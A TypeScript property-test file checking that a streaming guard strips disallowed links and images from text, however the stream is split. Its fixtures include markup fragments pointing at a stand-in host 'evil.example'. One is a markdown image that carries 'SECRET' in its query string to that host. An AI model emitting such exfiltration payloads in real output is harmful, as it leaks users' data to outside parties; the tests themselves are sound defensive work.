import { array, assert, constantFrom, property } from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cuts, options, PIECES, streamed, T1 } from '../../../test/support/stream-mixtures.ts'
import type { SidePolicy } from './guard-policy.ts'
import { guardText } from './guard-text.ts'

describe('links of a stream', () => {
  const ALLOWING: SidePolicy = { ...T1, links: { allow: ['good.example'], images: false } }
  const MARKUP = [
    '[',
    '![',
    ']',
    '](',
    ')',
    '][',
    ']:',
    '(',
    '<',
    '>',
    '"',
    "'",
    '\\',
    '`',
    '|',
    '!',
    '\n',
    '\n\n',
    ' ',
    '/',
    '=',
    '. ',
    ']: ',
    'https://evil.example/a',
    'https://good.example/a',
    '//evil.example',
    'www.evil.example',
    's: ',
    'custom:x',
    '/a',
    '&#47;',
    '<x ',
    '<a href="',
    '<img src="/&#47;evil.example/p"',
    ' title="',
    '<style>',
    '</style>',
    '<script>',
    '</script>',
    '<b>',
    'url(',
    '@import "',
    'u\\72l(',
    ';',
    ' "t"',
    '<https://evil.example>',
    '<https://good.example/',
    '![i](https://evil.example/p.png)',
    '![i](https://good.example/p.png)',
    '[x](https://good.example/ "t")',
    '[x](<https://good.example/>',
    '[x](https://good.example/ ',
    '[r]: https://evil.example/p.png\n',
    'bob@example.com',
    '[r]: https://good.example/p.png\n',
    '![r]',
    '![x][r]',
    '![x] [R]',
    '[r]',
    '|www.evil.example',
    '*',
    '\u2028',
    'https://good.example',
    '@evil.example',
    '。evil.example',
    `https://good.example:${'0'.repeat(4_200)}`,
    `<https://good.example:${'0'.repeat(4_200)}`,
    '](<https://good.example:',
    '\\>',
    '0'.repeat(4_200),
    '\\]',
    '\\[',
    '> - ',
    'here is plain prose without an end that goes on and on so that nothing of it is held back by anyone who reads it ',
    'words. ',
    'These are plain words that stand in a sentence of their own and mean nothing to anybody who reads along with us here. '.repeat(
      3,
    ),
    'These are plain words that stand in a line of their own and mean nothing to anybody who reads along with us here.\n'.repeat(
      3,
    ),
  ]
  const markup = array(constantFrom(...MARKUP), { minLength: 2, maxLength: 24 }).map((parts) => parts.join(''))

  test.each([
    ['without allowed hosts', T1],
    ['with one', ALLOWING],
  ])('are those of the whole text, whatever is mixed and however it is cut: %s', (_, policy) => {
    assert(
      property(markup, cuts, (text, sizes) => {
        expect(streamed(text, sizes, policy)).toBe(guardText(text, policy, options).text)
      }),
      { numRuns: 1_000 },
    )
  })

  test.each([
    '](https://good.example/a\u2028url(*( Z',
    'https://good.example/a~url("*/www Z',
    '`words ](<?\\<https://good.example/a@evil.example[url(words > Z',
    '[x](https://good.example/a\\url( and Z',
  ])('what is found late within a link takes the link with it: %s', (pattern) => {
    const text = pattern.replace('Z', `${'0'.repeat(4_200)} and so on.`)
    const whole = guardText(text, ALLOWING, options).text
    for (const sizes of [[1], [20], [163, 100], [426, 389, 2, 440]]) expect(streamed(text, sizes, ALLOWING)).toBe(whole)
  })

  test.each([
    ['its definition comes first', '[r]: https://good.example/p.png\n\n', '\n\n![r] end. '],
    ['its definition comes later', '![r]\n\n', '\n\n[r]: https://good.example/p.png\n'],
    ['its bracket opened long before', '![ ', '](https://good.example/p.png) end.'],
  ])('an image is one although the text between is long: %s', (_, before, after) => {
    const text = before + PIECES[2]!.repeat(12) + after
    const whole = guardText(text, ALLOWING, options).text
    expect(whole).toContain('[image removed]')
    for (const size of [1, 20, 10_000]) expect(streamed(text, [size], ALLOWING)).toBe(whole)
  })

  test.each([40, 80, 120, 200, 400])(
    'an image that closes inside of a tag behind %i characters of words is cut',
    (length) => {
      const words = 'here is plain prose without any ending mark that goes on and on so that nothing is held back '
      for (const tail of ['>x)', `>${'x'.repeat(80)})`]) {
        const image = ` ![i](https://evil.example/p.png?d=SECRET${tail} and so on.`
        const text = `<x ](s: ${words.repeat(5).slice(0, length)}${image}`
        for (const size of [1, 8, 64, 1_000]) expect(streamed(text, [size], T1)).not.toContain('evil.example')
      }
    },
  )
})
